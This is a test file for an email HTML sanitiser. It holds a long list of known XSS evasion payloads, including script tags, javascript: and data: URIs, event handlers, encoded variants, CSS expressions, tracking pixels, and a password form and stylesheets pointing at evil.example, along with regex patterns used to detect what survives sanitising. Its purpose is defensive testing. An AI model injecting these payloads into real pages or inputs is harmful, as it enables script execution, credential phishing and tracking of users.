import { HTML_MAX_CHARS, sanitiseHtml } from '../../../src/server/content/sanitise';

/**
 * Known XSS payloads (the OWASP XSS Filter Evasion Cheat Sheet's families, HTML5 Security Cheatsheet
 * vectors, and mail-specific ones): after sanitising, none may leave anything that runs or loads.
 */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=`javascript:alert("x")`>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<IMG SRC=" &#14;  javascript:alert(1);">',
  '<img src=x onerror=alert(1)>',
  '<img src="cid:ok@x" onerror="alert(1)" onload=alert(2)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<BODY BACKGROUND="javascript:alert(1)">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JAVASCRIPT:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a onmouseover="alert(1)" href="https://ok.example/">x</a>',
  '<form action="https://evil.example/"><input name=p type=password><button>Log in</button></form>',
  '<div style="width: expression(alert(1))">x</div>',
  '<div style="background-image: url(javascript:alert(1))">x</div>',
  '<div style="background:url(https://tracker.example/p.gif)">x</div>',
  '<div style="color: e\\xpression(alert(1))">x</div>',
  '<div style="behavior: url(x.htc)">x</div>',
  '<div style="-moz-binding: url(https://evil.example/x.xml#xss)">x</div>',
  '<style>@import "https://evil.example/x.css"; body{background:url(javascript:alert(1))}</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<img src="https://tracker.example/open.gif?u=1" width=1 height=1>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img srcset="https://tracker.example/a.gif 1x">',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<table background="javascript:alert(1)"><tr><td background="https://tracker.example/x.gif">x</td></tr></table>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '"><script>alert(document.cookie)</script>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<font face="x" color="red" onmouseover=alert(1)>x</font>',
];

/** Whatever may run or load once the HTML is shown. */
const DANGEROUS = [
  /<\s*script/i,
  /<\s*(svg|math|iframe|frame|object|embed|form|input|button|style|link|meta|base|video|audio|source|details|marquee|isindex|template)\b/i,
  /\son[a-z]+\s*=/i,
  /javascript:/i,
  /vbscript:/i,
  /data:/i,
  /expression\s*\(/i,
  /url\s*\(/i,
  /srcdoc|srcset|background=/i,
  /-moz-binding|behaviou?r/i,
  /(src|href)="\/\//i,
  /<img(?![^>]*src="cid:)[^>]*>/i,
];

describe('sanitiseHtml', () => {
  it.each(PAYLOADS)('leaves nothing that runs or loads of %s', (payload) => {
    const { html } = sanitiseHtml(`<p>Before</p>${payload}<p>After</p>`);
    for (const bad of DANGEROUS) expect(html).not.toMatch(bad);
    // An unclosed <svg> or <noscript> takes the rest with it (it is never shown as text): the text before stays.
    expect(html).toContain('<p>Before</p>');
  });

  it('keeps what a reader needs: text, structure, tables, safe links and styles, inline images by Content-ID', () => {
    const { html, contentIds } = sanitiseHtml(
      '<div style="color: #333; font-weight: bold"><h2>Viewing</h2><p>Dear <b>Sarah</b>,</p>' +
        '<table border="1"><tr><td colspan="2">Price</td></tr></table>' +
        '<a href="https://rezi.example/g/1">the listing</a> <a href="mailto:sarah@gmail.com">mail</a>' +
        '<img src="cid:Logo@brightwells" alt="logo"><img src="cid:%3Cplan%40x%3E"></div>',
    );
    expect(html).toContain('<div style="color:#333;font-weight:bold"><h2>Viewing</h2><p>Dear <b>Sarah</b>,</p>');
    expect(html).toContain('<td colspan="2">Price</td>');
    expect(html).toContain('<a href="https://rezi.example/g/1" rel="noopener noreferrer nofollow" target="_blank">the listing</a>');
    expect(html).toContain('href="mailto:sarah@gmail.com"');
    expect(html).toContain('<img src="cid:Logo@brightwells" alt="logo" />');
    expect(contentIds).toEqual(['logo@brightwells', 'plan@x']);
  });

  it('cuts an HTML body of megabytes at its limit, and says so', () => {
    const huge = `<p>${'x'.repeat(HTML_MAX_CHARS + 10)}</p>`;
    const out = sanitiseHtml(huge);
    expect(out.cut).toBe(true);
    expect(out.html.length).toBeLessThanOrEqual(HTML_MAX_CHARS + 10);
    expect(sanitiseHtml('<p>short</p>').cut).toBe(false);
  });
});
